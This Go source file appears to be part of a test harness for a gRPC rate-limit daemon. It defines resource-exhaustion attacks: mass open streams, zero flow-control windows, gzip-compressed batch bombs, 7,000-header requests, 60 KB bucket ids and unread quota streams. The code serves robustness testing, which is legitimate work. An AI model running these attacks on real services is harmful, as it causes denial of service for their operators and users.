package main

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/binary"
	"fmt"
	"slices"
	"strings"
	"time"

	quotav3 "github.com/envoyproxy/go-control-plane/envoy/service/rate_limit_quota/v3"
	ratelimitv3 "github.com/envoyproxy/go-control-plane/envoy/service/ratelimit/v3"
	healthv1 "google.golang.org/grpc/health/grpc_health_v1"
	reflectionv1 "google.golang.org/grpc/reflection/grpc_reflection_v1"
	"google.golang.org/protobuf/encoding/protowire"
	"google.golang.org/protobuf/proto"
)

// These attacks use the services other than ShouldRateLimit.

const (
	decide      = ratelimitv3.RateLimitService_ShouldRateLimit_FullMethodName
	decideBatch = "/ratelimitd.v1.DecisionService/DecideBatch"
	reserve     = "/ratelimitd.v1.ReservationService/Reserve"
)

func mustMarshal(m proto.Message) []byte {
	b, err := proto.Marshal(m)
	if err != nil {
		panic(err) // impossible: we built the message
	}
	return b
}

// openOnce starts 1,000 calls of a method on each connection, sends the messages on each, and keeps them open.
func openOnce(ctx context.Context, at string, connections int, h habits, path string, messages ...[]byte) error {
	block := headerBlock(path)
	return several(ctx, at, connections, h, func(c *client) error {
		if c.Stream > 0 {
			wait(ctx, time.Second)
			return nil
		}
		c.block = block
		for range 1_000 {
			c.begin()
			for _, m := range messages {
				c.sendPart(len(m), m, false)
			}
		}
		return nil
	})
}

func watches(ctx context.Context, at string, _ bool) error {
	return openOnce(ctx, at, 12, habits{}, healthv1.Health_Watch_FullMethodName, nil)
}

// reflections asks for long descriptions, and never lets the server send an answer.
func reflections(ctx context.Context, at string, _ bool) error {
	ask := mustMarshal(&reflectionv1.ServerReflectionRequest{
		MessageRequest: &reflectionv1.ServerReflectionRequest_FileContainingSymbol{
			FileContainingSymbol: "envoy.service.ratelimit.v3.RateLimitService",
		},
	})
	return openOnce(ctx, at, 4, habits{zeroWindow: true},
		reflectionv1.ServerReflection_ServerReflectionInfo_FullMethodName, ask, ask)
}

// batches sends messages of a few KB that are 100 requests of 256 descriptors each, and never lets the server send an
// answer.
func batches(ctx context.Context, at string, short bool) error {
	var one []byte
	one = protowire.AppendTag(one, 1, protowire.BytesType)
	one = protowire.AppendString(one, "attack")
	descriptor := mustMarshal(request("attack", "key", "one").Descriptors[0])
	for range 256 {
		one = protowire.AppendTag(one, 2, protowire.BytesType)
		one = protowire.AppendBytes(one, descriptor)
	}
	var packed bytes.Buffer
	w := gzip.NewWriter(&packed)
	for range 100 {
		_, _ = w.Write(protowire.AppendBytes(protowire.AppendTag(nil, 1, protowire.BytesType), one)) // memory does not fail
	}
	_ = w.Close()
	data := append(binary.BigEndian.AppendUint32([]byte{1}, uint32(packed.Len())), packed.Bytes()...)
	return several(ctx, at, few(short, 20, 100), habits{zeroWindow: true}, func(c *client) error {
		c.block = headerBlock(decideBatch, "grpc-encoding", "gzip")
		c.begin()
		_ = c.WriteData(c.Stream, true, data)
		return nil
	})
}

// reservations sends requests for reservations, and reads no answer.
func reservations(ctx context.Context, at string, short bool) error {
	m := message("key", "one")
	return several(ctx, at, few(short, 20, 100), habits{mute: true}, func(c *client) error {
		c.block = headerBlock(reserve)
		return c.batch(m)
	})
}

// otherHeaders calls a method that does not exist, with 7,000 header fields, and never sends the body.
func otherHeaders(ctx context.Context, at string, _ bool) error {
	block := headerBlock("/none.Service/None", slices.Repeat([]string{"a", "b"}, 7_000)...)
	return several(ctx, at, 8, habits{}, func(c *client) error {
		c.block = block
		for range 4 {
			c.begin()
		}
		return nil
	})
}

// quotaIDs reports buckets whose ids have 60 KB.
func quotaIDs(ctx context.Context, at string, _ bool) error {
	n := 0
	block := headerBlock(quotav3.RateLimitQuotaService_StreamRateLimitQuotas_FullMethodName)
	return several(ctx, at, 1, habits{}, func(c *client) error {
		if c.Stream == 0 {
			c.block = block
			c.begin()
		}
		n++
		c.report(n, strings.Repeat("x", 60_000))
		return nil
	})
}

// quotaUnread reports 1,000 buckets on each of 20 streams of 20 connections, and reads no answer.
func quotaUnread(ctx context.Context, at string, _ bool) error {
	block := headerBlock(quotav3.RateLimitQuotaService_StreamRateLimitQuotas_FullMethodName)
	return several(ctx, at, 20, habits{mute: true}, func(c *client) error {
		if c.Stream > 0 {
			wait(ctx, time.Second)
			return nil
		}
		c.block = block
		for range 20 {
			c.begin()
			for n := range 1_000 {
				c.report(n, "")
			}
		}
		return nil
	})
}

// quotaZero opens quota streams of 1,000 buckets again and again, and never lets the server send an answer.
func quotaZero(ctx context.Context, at string, short bool) error {
	block := headerBlock(quotav3.RateLimitQuotaService_StreamRateLimitQuotas_FullMethodName)
	reports := &quotav3.RateLimitQuotaUsageReports{Domain: "attack"}
	for n := range 1_000 {
		reports.BucketQuotaUsages = append(reports.BucketQuotaUsages, usage(fmt.Sprint(n)))
	}
	m := mustMarshal(reports)
	return several(ctx, at, few(short, 4, 20), habits{zeroWindow: true}, func(c *client) error {
		c.block = block
		c.begin()
		c.sendPart(len(m), m, false)
		return nil
	})
}

func usage(value string) *quotav3.RateLimitQuotaUsageReports_BucketQuotaUsage {
	return &quotav3.RateLimitQuotaUsageReports_BucketQuotaUsage{
		BucketId: &quotav3.BucketId{Bucket: map[string]string{"key": value}}, NumRequestsAllowed: 1,
	}
}

// report writes the report of one bucket into the buffer.
func (c *client) report(n int, long string) {
	m := mustMarshal(&quotav3.RateLimitQuotaUsageReports{
		Domain: "attack", BucketQuotaUsages: []*quotav3.RateLimitQuotaUsageReports_BucketQuotaUsage{usage(fmt.Sprint(n,
			long))},
	})
	c.sendPart(len(m), m, false)
}
